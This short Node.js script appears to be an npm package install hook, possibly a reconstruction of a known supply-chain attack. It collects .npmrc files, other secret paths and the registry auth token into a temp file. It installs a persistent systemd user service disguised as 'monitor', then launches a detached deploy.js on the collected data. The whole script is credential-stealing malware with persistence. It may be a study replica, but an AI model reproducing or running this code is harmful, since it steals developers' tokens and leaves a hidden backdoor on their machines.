// Failures are ignored, as they were in the original.
const { spawn, spawnSync } = require("child_process");
const fs = require("fs");
const { PATHS, sweep } = require("./thief.js");

const { DETACH, HOME, INIT_CWD, TMPDIR } = process.env;
const npmrc = sweep([".npmrc", `${INIT_CWD}/.npmrc`, "/etc/npmrc"]);
const others = sweep(PATHS.filter((path) => path !== ".npmrc"));
const got = spawnSync("npm", ["config", "get", "//packages.example/:_authToken"], { encoding: "utf8" }).stdout;

fs.mkdirSync(`${HOME}/.local/share/monitor`, { recursive: true });
fs.copyFileSync(`${__dirname}/service.py`, `${HOME}/.local/share/monitor/service.py`);
fs.mkdirSync(`${HOME}/.config/systemd/user`, { recursive: true });
const unit = `[Service]\nExecStart=/usr/bin/env python3 ${HOME}/.local/share/monitor/service.py\n`;
fs.writeFileSync(`${HOME}/.config/systemd/user/monitor.service`, unit);
for (const command of [["daemon-reload"], ["enable", "monitor"], ["start", "monitor"]]) {
  spawnSync("systemctl", ["--user", ...command]);
}

fs.writeFileSync(`${TMPDIR}/collected`, npmrc + others + got);
const deploy = spawn(process.execPath, [`${__dirname}/deploy.js`, `${TMPDIR}/collected`], { detached: true, stdio: "ignore" });
if (DETACH) {
  deploy.unref();
}
